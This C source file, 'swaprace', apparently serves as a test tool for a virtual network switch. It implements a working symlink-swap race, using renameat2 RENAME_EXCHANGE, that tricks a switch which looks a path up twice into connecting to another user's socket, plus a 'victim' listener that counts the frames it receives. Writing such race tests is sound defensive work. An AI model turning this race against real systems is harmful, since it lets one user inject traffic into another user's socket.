/* SPDX-License-Identifier: ISC */
/*
 * swaprace: a client that races the switch for the path it names.
 *
 * usage: swaprace attack CTLDIR SOCKDIR VICTIM ROUNDS
 *        swaprace victim PATH
 *
 * attack	Binds its own datagram socket in SOCKDIR and makes a symbolic
 *		link there to VICTIM, another user's socket; a child swaps the
 *		two names without pause (renameat2 RENAME_EXCHANGE) while the
 *		parent attaches ROUNDS times, each time naming its own socket.
 *		A switch that looks the name up twice will, now and then,
 *		check the socket and connect to the link.  After each attach
 *		the parent waits up to 0.2 s for a frame (the test floods the
 *		switch), then detaches.  Prints "rounds R attached A refused F
 *		frames G".
 * victim	Binds PATH (mode 0666: anyone may send to it) and prints "got N"
 *		for every datagram it receives, until killed.
 */

#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>

#include <err.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "vde.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE	(1 << 1)
#endif

static void
swaprace_usage(void)
{
	fprintf(stderr, "usage: swaprace attack CTLDIR SOCKDIR VICTIM ROUNDS\n"
	    "       swaprace victim PATH\n");
	exit(1);
}

static void
swaprace_sun(struct sockaddr_un *sun, const char *path)
{
	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	if (strlen(path) >= sizeof(sun->sun_path))
		errx(1, "%s: path too long", path);
	memcpy(sun->sun_path, path, strlen(path));
}

static int
swaprace_bind(const char *path)
{
	struct sockaddr_un sun;
	int fd;

	swaprace_sun(&sun, path);
	if ((fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0)) == -1)
		err(1, "socket");
	(void)unlink(path);
	if (bind(fd, (struct sockaddr *)&sun, sizeof(sun)) == -1)
		err(1, "bind %s", path);
	if (chmod(path, 0666) == -1)
		err(1, "chmod %s", path);
	return fd;
}

static int
swaprace_victim(const char *path)
{
	char buf[65536];
	unsigned long n = 0;
	int fd;

	fd = swaprace_bind(path);
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		if (recv(fd, buf, sizeof(buf), 0) == -1)
			err(1, "recv");
		printf("got %lu\n", ++n);
		fflush(stdout);
	}
}

/* One attach naming path; 1 attached, 0 refused. */
static int
swaprace_attach(const char *ctldir, const char *path, int data, int *frames)
{
	unsigned char req[VDE_REQ_MAX], buf[2048];
	struct sockaddr_un sun;
	struct pollfd pfd;
	char ctl[sizeof(sun.sun_path)];
	size_t len;
	ssize_t r;
	int fd;

	if ((size_t)snprintf(ctl, sizeof(ctl), "%s/ctl", ctldir) >= sizeof(ctl))
		errx(1, "%s: path too long", ctldir);
	swaprace_sun(&sun, ctl);
	if ((fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0)) == -1)
		err(1, "socket");
	if (connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == -1)
		err(1, "connect %s", ctl);
	if ((len = vde_req_build(req, sizeof(req), -1, path, "swaprace")) == 0)
		errx(1, "cannot build a request");
	if (write(fd, req, len) != (ssize_t)len)
		err(1, "write request");
	/* The reply is the switch's socket address; nothing is a refusal. */
	r = read(fd, &sun, sizeof(sun));
	if (r != (ssize_t)sizeof(sun)) {
		close(fd);
		return 0;
	}
	pfd.fd = data;
	pfd.events = POLLIN;
	if (poll(&pfd, 1, 200) == 1 && recv(data, buf, sizeof(buf), 0) > 0)
		(*frames)++;
	while (recv(data, buf, sizeof(buf), MSG_DONTWAIT) > 0)
		;
	close(fd);
	return 1;
}

static int
swaprace_attack(const char *ctldir, const char *sockdir, const char *victim,
    int rounds)
{
	char own[108], link[108];
	pid_t pid;
	int data, i, attached = 0, refused = 0, frames = 0;

	if ((size_t)snprintf(own, sizeof(own), "%s/own", sockdir) >=
	    sizeof(own) ||
	    (size_t)snprintf(link, sizeof(link), "%s/link", sockdir) >=
	    sizeof(link))
		errx(1, "%s: path too long", sockdir);
	data = swaprace_bind(own);
	(void)unlink(link);
	if (symlink(victim, link) == -1)
		err(1, "symlink %s", link);

	if ((pid = fork()) == -1)
		err(1, "fork");
	if (pid == 0) {
		for (;;)
			if (syscall(SYS_renameat2, AT_FDCWD, own, AT_FDCWD,
			    link, RENAME_EXCHANGE) == -1)
				err(1, "renameat2");
	}
	/* The name "own" is ours or the link, as the child last left it. */
	for (i = 0; i < rounds; i++) {
		if (swaprace_attach(ctldir, own, data, &frames))
			attached++;
		else
			refused++;
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	printf("rounds %d attached %d refused %d frames %d\n", rounds,
	    attached, refused, frames);
	return 0;
}

int
main(int argc, char *argv[])
{
	if (argc == 3 && strcmp(argv[1], "victim") == 0)
		return swaprace_victim(argv[2]);
	if (argc == 6 && strcmp(argv[1], "attack") == 0)
		return swaprace_attack(argv[2], argv[3], argv[4],
		    atoi(argv[5]));
	swaprace_usage();
	return 1;
}
